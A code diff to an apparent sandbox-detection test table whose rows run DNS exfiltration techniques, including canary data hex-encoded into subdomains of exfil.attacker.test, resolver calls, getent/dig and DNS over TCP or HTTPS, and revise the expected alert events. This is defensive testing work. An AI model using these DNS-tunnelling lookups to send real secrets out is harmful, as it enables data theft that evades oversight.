@@ -18,7 +18,7 @@ ROWS = [
     Row("NR-01", "data in the labels of many names", "metadata", act("""
         for n in range(5):
             attempt(socket.getaddrinfo, "v2-f.%d.%s.%s.v2-e.exfil.attacker.test" % (n, CANARY, (CANARY * 3)[:60].encode().hex()[:60]), 80)
-        """), name("v2-f.*.{canary}.*"), Event("net.resolve", "net.resolve", {"host": "v2-f.4.canary-nr-01-*.v2-e.exfil.attacker.test"})),
+        """), name("v2-f.*.{canary}.*"), Event("net.resolve", "net.resolve.tunnel", {"host": "v2-f.4.canary-nr-01-*.v2-e.exfil.attacker.test"})),
     Row("NR-02", "gethostbyname, gethostbyname_ex, res_query", "build", act("""
         import ctypes
         attempt(socket.gethostbyname, "one." + CANARY + ".attacker.test")
@@ -29,9 +29,9 @@ ROWS = [
             getattr(libc if hasattr(libc, "res_query") else ctypes.CDLL("libresolv.so.2"), "res_query" if hasattr(libc, "res_query") else "__res_query")(("three." + CANARY + ".attacker.test").encode(), 1, 16, answer, 512)
         attempt(txt)
         """), name("*.{canary}.attacker.test"), (resolve("net.resolve", "one.canary*"), resolve("net.resolve", "two.canary*"),
-                                                  connect(port=53, rule="net.outside.probe", severity="info"))),
+                                                  resolve("net.resolve", "three.canary*"))),
     Row("NR-03", "queries made by hand, to the resolver and to another", "native", "", name("*.{canary}.attacker.test"),
-        (sent(port=53), sent("203.0.113.53", 53)), native="dns_packets"),
+        (resolve("net.resolve", "*.canary*"), sent("203.0.113.53", 53)), native="dns_packets"),
     Row("NR-04", "getent, nslookup, dig, host, ping", "metadata", act("""
         attempt(run, "getent", "hosts", "a." + CANARY + ".attacker.test")
         attempt(run, "getent", "ahosts", "b." + CANARY + ".attacker.test")
@@ -47,7 +47,7 @@ ROWS = [
                 s.sendall(struct.pack("!H", len(packet)) + packet)
                 s.recv(512)
         attempt(query)
-        """), name("tcp.{canary}.attacker.test"), connect(port=53)),
+        """), name("tcp.{canary}.attacker.test"), resolve("net.resolve", "tcp.canary*")),
     Row("NR-06", "DNS over HTTPS, DNS over TLS", "import", act("""
         attempt(ask, "https://dns.google/dns-query?dns=" + CANARY)
         def over_tls():
